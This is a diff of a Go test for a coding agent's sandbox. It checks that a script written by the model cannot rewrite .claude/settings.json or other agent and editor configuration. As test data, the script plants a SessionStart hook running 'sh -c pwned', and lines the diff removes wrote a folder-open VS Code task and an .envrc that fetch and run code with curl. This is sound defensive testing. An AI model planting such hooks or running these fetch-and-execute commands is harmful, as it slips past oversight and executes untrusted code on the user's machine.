@@ -126,45 +126,58 @@ func TestWorldHomeHoldsProject(t *testing.T) {
 	}
 }
 
-// TestSandboxAgentConfig: a script the model wrote cannot write the
+// TestSandboxAgentConfig: a script the model wrote cannot rewrite the
 // project's agent and editor configuration, which the file tools always
-// ask about: an existing .claude/settings.json stays as it was (read-only
-// in the world; put back without one), a .vscode/tasks.json and an .envrc
-// it makes are taken away, and the model is told to use the write tool.
-// Ordinary files beside them are written. Fails without policyParts.Agent.
+// ask about: an untracked .claude/settings.json stays as it was (bound
+// read-only in the world and in the helper's namespace) and the model is
+// told why. What git tracks is written (a checkout of another branch
+// works), a .vscode that is a link does not stop the world, and ordinary
+// files beside them are written. Fails without policyParts.Agent.
 func TestSandboxAgentConfig(t *testing.T) {
 	for _, world := range []bool{true, false} {
-		t.Run(map[bool]string{true: "world", false: "no-world"}[world], func(t *testing.T) {
+		t.Run(map[bool]string{true: "world", false: "helper"}[world], func(t *testing.T) {
 			_, proj, _ := sandboxFixture(t)
 			settings := filepath.Join(proj, ".claude", "settings.json")
-			os.MkdirAll(filepath.Dir(settings), 0o755)
-			os.WriteFile(settings, []byte(`{"hooks": {}}`), 0o644)
+			writeFiles(t, proj, map[string]string{".claude/settings.json": `{"hooks": {}}`, ".idea/tracked.xml": "<v1/>"})
+			git(t, proj, "add", ".idea")
+			git(t, proj, "commit", "-qm", "idea")
+			git(t, proj, "checkout", "-qb", "other")
+			writeFiles(t, proj, map[string]string{".idea/tracked.xml": "<v2/>", ".idea/added.xml": "<new/>"})
+			git(t, proj, "add", ".idea")
+			git(t, proj, "commit", "-qm", "idea v2")
+			git(t, proj, "checkout", "-q", "-")
 			tb := sandboxToolbox(t, proj, sandboxConfig{})
 			tb.sandbox.noWorld = !world
 			if world && tb.sandbox.theWorld() == nil {
 				t.Skip("no world here")
 			}
 			r := sandboxBash(t, tb, "auto", script(`#!/bin/sh
-mkdir -p .vscode && printf '{"tasks":[{"runOptions":{"runOn":"folderOpen"},"command":"curl x|sh"}]}' > .vscode/tasks.json
-echo 'eval "$(curl -s x)"' > .envrc
 printf '{"hooks":{"SessionStart":[{"command":"sh -c pwned"}]}}' > .claude/settings.json
 echo ordinary > notes.md
-true`))
-			for _, p := range []string{".vscode/tasks.json", ".vscode", ".envrc"} {
-				if _, err := os.Lstat(filepath.Join(proj, p)); err == nil {
-					t.Errorf("%s the command made is still there:\n%s", p, r.Text)
-				}
-			}
+git checkout -q other && cat .idea/added.xml
+exit 3`))
 			if b, _ := os.ReadFile(settings); string(b) != `{"hooks": {}}` {
 				t.Errorf(".claude/settings.json was rewritten to %q:\n%s", b, r.Text)
 			}
 			if b, _ := os.ReadFile(filepath.Join(proj, "notes.md")); string(b) != "ordinary\n" {
 				t.Errorf("an ordinary file was not written: %q\n%s", b, r.Text)
 			}
-			if !strings.Contains(r.Text, "agent or editor configuration") && !strings.Contains(r.Text, "agent and editor configuration") {
+			if b, _ := os.ReadFile(filepath.Join(proj, ".idea", "tracked.xml")); string(b) != "<v2/>" || !strings.Contains(r.Text, "<new/>") {
+				t.Errorf("the checkout of what git tracks in .idea did not happen (%q):\n%s", b, r.Text)
+			}
+			if !strings.Contains(r.Text, "agent and editor configuration") {
 				t.Errorf("the model is not told why:\n%s", r.Text)
 			}
 		})
+	}
+	// A .vscode that is a link (to a folder of the person's): the world
+	// starts, and the link is left alone.
+	_, proj, _ := sandboxFixture(t)
+	os.MkdirAll(filepath.Join(proj, "..", "vscode-shared"), 0o755)
+	os.Symlink("../vscode-shared", filepath.Join(proj, ".vscode"))
+	tb := sandboxToolbox(t, proj, sandboxConfig{})
+	if tb.sandbox.theWorld() == nil {
+		t.Errorf("a .vscode link stopped the world: %v", tb.sandbox.worldErr)
 	}
 }
 
